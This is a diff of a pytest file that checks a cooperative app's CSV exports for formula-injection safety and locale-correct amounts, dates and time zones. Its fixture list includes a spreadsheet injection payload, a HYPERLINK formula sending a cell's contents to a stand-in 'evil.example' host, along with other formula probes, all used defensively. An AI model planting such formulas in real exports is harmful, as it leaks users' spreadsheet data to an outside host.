@@ -1,22 +1,29 @@
 """Every CSV export, found from the URL map (every route that answers
 text/csv, so that a new one cannot be forgotten), is written by the one CSV
 writer: no cell a spreadsheet would run as a formula, negative amounts still
-numbers, one `Content-Type: text/csv; charset=utf-8` and a filename."""
+numbers, one `Content-Type: text/csv; charset=utf-8` and a filename; numbers
+and dates as a spreadsheet in the group's language reads them (Russian Excel:
+decimal comma, dd.MM.yyyy in the group's time zone)."""
 
 from __future__ import annotations
 
 import csv
 import io
 import re
+from datetime import date, datetime
 
+import pytest
 from flask import Flask
+from sqlalchemy import select
 from sqlalchemy.orm import Session
 
-from coop.csv_export import needs_apostrophe, neutralise, unneutralise
+from coop.csv_export import csv_amount, csv_date, needs_apostrophe, neutralise, unneutralise
+from coop.groups.models import Group
 from coop.ledger import services as ledger
+from coop.ledger.models import Posting
 from coop.suppliers.models import Supplier
-from tests.conftest import login
-from tests.factories import make_product
+from tests.conftest import login, post
+from tests.factories import make_group, make_member, make_product, make_supplier
 from tests.web.test_access_walk import _rules, _url, world  # noqa: F401  (fixture)
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+SUM(1,1)", "-2+3",
@@ -76,4 +83,93 @@ def test_every_csv_export_is_safe(app_ctx: Flask, world, session: Session  # noq
     assert "'" + FORMULAS[0] in seen and "'-2+3" in seen and "'@SUM(A1)" in seen
     assert "'=1+1" in seen and "'-kg" in seen
     negatives = {c for c in seen if c.startswith("-") and _PLAIN_NUMBER.fullmatch(c)}
-    assert "-2.50" in negatives, sorted(negatives)
+    assert "-2,50" in negatives, sorted(negatives)  # the demo group's Excel is Russian
+    # every amount and date of every export as Russian Excel reads them
+    assert not {c for c in seen if re.fullmatch(r"-?[0-9]+\.[0-9]+", c)}, "a decimal point"
+    foreign_date = re.compile(r"\d{4}-\d{2}-\d{2}|\b\d{1,2}/\d{1,2}/\d{2}\b")
+    assert not {c for c in seen if foreign_date.search(c)}, "a date"
+
+
+
+def test_amounts_and_dates_as_the_group_s_spreadsheet_reads_them(app_ctx: Flask) -> None:
+    with app_ctx.test_request_context():
+        assert [csv_amount(n, "KGS", "ru") for n in (-250, 123450, 0)] == [
+            "-2,50", "1234,50", "0,00"]
+        assert csv_amount(-250, "KGS", "ky") == csv_amount(-250, "TJS", "tg") == "-2,50"
+        assert csv_amount(-123450, "KGS", "en") == "-1234.50"
+        assert neutralise(csv_amount(-250, "KGS", "ru")) == "-2,50"  # still a number
+        assert csv_date(date(2026, 12, 2), "ru") == "02.12.2026"
+        assert csv_date(date(2026, 12, 2), "en") == "2026-12-02"
+        assert csv_date(None, "ru") == ""
+
+
+def _statement_rows(client, group: Group, member) -> list[list[str]]:  # type: ignore[no-untyped-def]
+    response = client.get(f"/groups/{group.id}/accounts/{member.id}/statement.csv")
+    assert response.status_code == 200
+    data = response.get_data()
+    assert data.startswith(b"\xef\xbb\xbf")  # UTF-8 with a BOM: Excel reads Cyrillic
+    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))
+
+
+@pytest.mark.parametrize(("country", "currency", "language", "reader", "amount", "moment"), [
+    ("KG", "KGS", "ru", "en", "-1234,50", "03.12.2026 05:30"),   # UTC+6
+    ("TJ", "TJS", "tg", "ru", "-1234,50", "03.12.2026 04:30"),   # UTC+5
+    ("KG", "KGS", "ky", "ky", "-1234,50", "03.12.2026 05:30"),
+    ("KG", "KGS", "en", "ru", "-1234.50", "2026-12-03 05:30"),
+])
+def test_the_statement_csv_in_the_group_s_locale_and_time_zone(
+        app_ctx: Flask, session: Session, country: str, currency: str, language: str,
+        reader: str, amount: str, moment: str) -> None:
+    group = Group(name=f"Группа {country}", country=country, currency=currency,
+                  language=language)
+    session.add(group)
+    session.flush()
+    treasurer = make_member(session, group, "Майрам", role="treasurer", locale=reader)
+    member = make_member(session, group, "Айгүл")
+    ledger.adjust_member(session, member, amount=123450, reason="Семена",
+                         actor=treasurer.user)
+    session.flush()
+    posting = session.scalar(select(Posting).where(Posting.membership_id == member.id))
+    posting.created_at = datetime(2026, 12, 2, 23, 30)  # UTC: the next day in Asia
+    session.commit()
+    client = app_ctx.test_client()
+    login(client, treasurer.user.email)
+    rows = _statement_rows(client, group, member)
+    assert len(rows) == 3 and all(len(row) == 5 for row in rows)
+    assert rows[1][4] == ("0.00" if language == "en" else "0,00")  # the opening balance
+    assert rows[2][0] == moment and rows[2][3] == amount and rows[2][4] == amount
+
+
+@pytest.mark.parametrize("language", ["ru", "en"])
+def test_the_catalog_export_reads_back_in_either_locale(app_ctx: Flask, session: Session,
+                                                        language: str) -> None:
+    from coop.suppliers.models import Product
+
+    group = make_group(session, language=language)
+    treasurer = make_member(session, group, "Майрам", role="treasurer")
+    supplier = make_supplier(session, group, "Агро")
+    make_product(session, supplier, "Семена", article_code="S-1", unit="kg",
+                 granularity="0,5", pack_size="2,5", tiers="0 = 48,5\n50 = 42",
+                 retail_price="60,25", weight_kg="1,75")
+    make_product(session, supplier, "=1+1", article_code="-A2", unit="bag")
+    session.commit()
+
+    def catalog() -> list[tuple]:  # type: ignore[type-arg]
+        session.expire_all()
+        return [(p.article_code, p.name, p.unit, p.pack_size, p.granularity, p.weight_grams,
+                 p.retail_price, [(t.min_qty, t.unit_price) for t in p.price_tiers])
+                for p in session.scalars(select(Product).order_by(Product.id))]
+
+    client = app_ctx.test_client()
+    login(client, treasurer.user.email)
+    url = f"/groups/{group.id}/suppliers/{supplier.id}"
+    data = client.get(f"{url}/export.csv").get_data()
+    lines = data.decode("utf-8-sig").splitlines()
+    mark = "," if language == "ru" else "."
+    assert f"S-1;Семена;kg;2{mark}5;0{mark}5;1{mark}75;60{mark}25;0=48{mark}5|50=42" in lines
+    assert any(line.startswith("'-A2;'=1+1;bag;") for line in lines)
+    before = catalog()
+    response = post(client, f"{url}/import", {"file": (io.BytesIO(data), "catalog.csv")},
+                    content_type="multipart/form-data")
+    assert response.status_code == 302
+    assert catalog() == before
